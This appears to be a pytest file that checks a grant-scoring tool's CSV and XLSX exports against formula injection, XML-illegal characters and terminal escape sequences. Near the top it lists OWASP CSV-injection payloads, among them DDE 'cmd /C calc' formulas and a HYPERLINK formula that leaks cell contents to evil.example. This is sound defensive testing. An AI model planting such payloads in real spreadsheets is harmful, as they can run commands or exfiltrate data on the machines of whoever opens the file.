"""Hostile text in the batch's spreadsheets (issue 12 item 2): OWASP's CSV-injection payloads
in programme names, organisations, ids (file names), manifest columns and values never become
formulas in scores.csv, scores.xlsx or errors.csv, in openpyxl or in LibreOffice; characters XML
cannot hold are shown escaped, never fatal; scores.xlsx is byte-reproducible."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from evidencekit.batch import BatchOptions, run_batch
from evidencekit.inert import FORMULA_START, cell_text

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

#: OWASP "CSV Injection" examples, with the leading-tab / leading-CR / leading-space variants.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further '
    'information")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1\n=2+2",
    "\uff1d1+1",
]
#: Characters XML 1.0 cannot hold, or that are invisible controls.
ILLEGAL = ["a\abell", "nul\x00byte", "esc\x1b[31mred", "v\vtab", "x\uffffy", "x\ufffey",
           "c1\x85next"]


def _submission(name: str, organisation: str) -> str:
    doc = yaml.safe_load((EXAMPLES / "goodgym.yaml").read_text(encoding="utf-8"))
    doc["programme"]["name"] = name
    doc["programme"]["organisation"] = organisation
    return yaml.safe_dump(doc, allow_unicode=False)


@pytest.fixture(scope="module")
def hostile_round(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A round whose names, organisations, file names and manifest are all payloads."""
    root = tmp_path_factory.mktemp("exports")
    apps = root / "apps"
    apps.mkdir()
    rows = []
    for i, payload in enumerate(OWASP_PAYLOADS + ILLEGAL):
        # The loader refuses control characters in a submission's text (issue 12 item 4), so
        # the XML-illegal payloads travel in the manifest; one refused application below.
        name = payload if payload not in ILLEGAL else f"illegal {i}"
        (apps / f"a{i}.yaml").write_text(_submission(name, OWASP_PAYLOADS[-1 - i % 5]),
                                        encoding="utf-8")
        aid = f"{payload} #{i}" if i < len(OWASP_PAYLOADS) else f"id{i}"
        rows.append({"application_id": aid,
                     "path": f"apps/a{i}.yaml", "=HYPERLINK(\"x\")": payload,
                     "amount": "-500" if i % 2 else "@1"})
    # An id from a file name, and a broken application whose error quotes a payload.
    (apps / "=1+2.yaml").write_text(_submission("file-name id", "-org"), encoding="utf-8")
    rows.append({"application_id": "=2+3", "path": "apps/=1+2.yaml",
                 "=HYPERLINK(\"x\")": "@x", "amount": "+1"})
    (apps / "broken.yaml").write_text("programme: {name: '=1+1', organisation: [\n",
                                      encoding="utf-8")
    rows.append({"application_id": "-broken", "path": "apps/broken.yaml",
                 "=HYPERLINK(\"x\")": "=1", "amount": "2"})
    (apps / "control.yaml").write_text(_submission("a\abell", "=org"), encoding="utf-8")
    rows.append({"application_id": "@control", "path": "apps/control.yaml",
                 "=HYPERLINK(\"x\")": "esc\x1b[31mred", "amount": "3"})
    manifest = root / "manifest.csv"
    with manifest.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    out = root / "out"
    summary = run_batch(manifest, out, BatchOptions(workers=1, progress=False, portfolio=False))
    assert summary.scored == len(rows) - 2 and summary.failed == 2
    # And a folder round: ids come from the file names.
    folder_out = root / "folder-out"
    run_batch(apps, folder_out, BatchOptions(workers=1, progress=False, portfolio=False))
    return out, folder_out


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _assert_inert(text: str) -> None:
    if re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text):
        return  # a plain number cannot be a formula
    assert not text or text[0] not in FORMULA_START, repr(text)
    assert text.lstrip(" ")[:1] not in FORMULA_START or text.lstrip(" ")[:1] == "", repr(text)
    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in text), repr(text)
    assert "\uffff" not in text and "\ufffe" not in text and "\x85" not in text, repr(text)


def test_csv_cells_never_start_a_formula(hostile_round: tuple[Path, Path]) -> None:
    for out in hostile_round:
        for name in ("scores.csv", "errors.csv"):
            for row in _csv_cells(out / name):
                for cell in row:
                    _assert_inert(cell)
    scores = _csv_cells(hostile_round[0] / "scores.csv")
    header = scores[0]
    assert "'=HYPERLINK(\"x\")" in header
    ids = {r[header.index("application_id")] for r in scores[1:]}
    assert "'=2+3" in ids and "'=cmd|' /C calc'!A0 #0" in ids
    column = {r[header.index("'=HYPERLINK(\"x\")")] for r in scores[1:]}
    assert "a\\x07bell" in column and "x\\uffffy" in column and "esc\\x1b[31mred" in column
    # A number the funder typed, and a number we computed, stay numbers.
    assert {r[header.index("amount")] for r in scores[1:]} >= {"-500", "'@1", "+1"}
    folder = _csv_cells(hostile_round[1] / "scores.csv")
    assert "'=1+2" in {r[folder[0].index("application_id")] for r in folder[1:]}
    errors = _csv_cells(hostile_round[0] / "errors.csv")
    assert {r[0] for r in errors[1:]} == {"'-broken", "'@control"}
    assert any("control character U+0007" in cell for r in errors[1:] for cell in r)


def test_xlsx_cells_are_strings_or_our_numbers(hostile_round: tuple[Path, Path]) -> None:
    from openpyxl import load_workbook

    for out in hostile_round:
        wb = load_workbook(out / "scores.xlsx")
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        _assert_inert(cell.value)
    ws = load_workbook(hostile_round[0] / "scores.xlsx").worksheets[0]
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "'=HYPERLINK(\"x\")" in values or any(
        isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)
    assert any(isinstance(v, float) for v in values)  # the effects are number cells


def test_libreoffice_computes_nothing(hostile_round: tuple[Path, Path], tmp_path: Path
                                      ) -> None:
    """LibreOffice opens scores.xlsx and scores.csv: every cell keeps its text, none is a
    formula (a computed =1+2 would read 3, a HYPERLINK would lose its text)."""
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        if os.environ.get("CI"):
            pytest.fail("libreoffice is missing (scripts/system-deps.sh installs it)")
        pytest.skip("libreoffice is not installed (scripts/system-deps.sh installs it)")
    out = hostile_round[0]
    work = tmp_path / "lo"
    work.mkdir()
    shutil.copy(out / "scores.xlsx", work / "scores.xlsx")
    shutil.copy(out / "scores.csv", work / "plain.csv")
    profile = (tmp_path / "profile").as_uri()
    for args in (["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "scores.xlsx"],
                 ["--convert-to", "xlsx", "plain.csv"]):
        done = subprocess.run([office, f"-env:UserInstallation={profile}", "--headless",
                               *args, "--outdir", str(work)], cwd=work, capture_output=True,
                              text=True, timeout=180, check=False)
        assert done.returncode == 0, done.stderr
    from openpyxl import load_workbook

    sheet = load_workbook(out / "scores.xlsx").worksheets[0]
    ours = [["" if c.value is None else c.value for c in row] for row in sheet.iter_rows()]
    theirs = _csv_cells(work / "scores.csv")
    assert len(theirs) == len(ours)
    for a, b in zip(ours, theirs, strict=True):
        for x, y in zip(a, b, strict=True):
            if isinstance(x, (int, float)):  # LibreOffice shows the number format's digits
                assert float(y) == pytest.approx(x, abs=0.006), (x, y)
            else:
                assert x == y, (x, y)  # text kept as text: nothing computed

    wb = load_workbook(work / "plain.xlsx")
    for row in wb.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_xlsx_is_byte_reproducible(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    apps = tmp_path / "apps"
    apps.mkdir()
    for name in ("goodgym", "code-club"):
        shutil.copy(EXAMPLES / f"{name}.yaml", apps / f"{name}.yaml")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1764547200")
    outs = []
    for i, workers in enumerate((1, 2)):
        out = tmp_path / f"out{i}"
        run_batch(apps, out, BatchOptions(workers=workers, progress=False, portfolio=False))
        outs.append((out / "scores.xlsx").read_bytes())
    assert outs[0] == outs[1]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + ILLEGAL)
def test_cell_text_is_inert(payload: str) -> None:
    _assert_inert(cell_text(payload))


def test_terminal_output_shows_escape_sequences_escaped() -> None:
    import io

    from rich.console import Console
    from rich.text import Text

    from evidencekit.render.text import _safe_console

    buf = io.StringIO()
    con = _safe_console(Console)(file=buf, force_terminal=True, width=80)
    con.print(Text("\x1b[2J\x1b[31mEVIL\x9b1m\u202e", style="bold"))
    out = buf.getvalue()
    assert "\\x1b[2J" in out and "\\x9b" in out and "\\u202e" in out
    assert "\x1b[2J" not in out and "\x9b" not in out
    assert "\x1b[1m" in out  # our own styling is kept
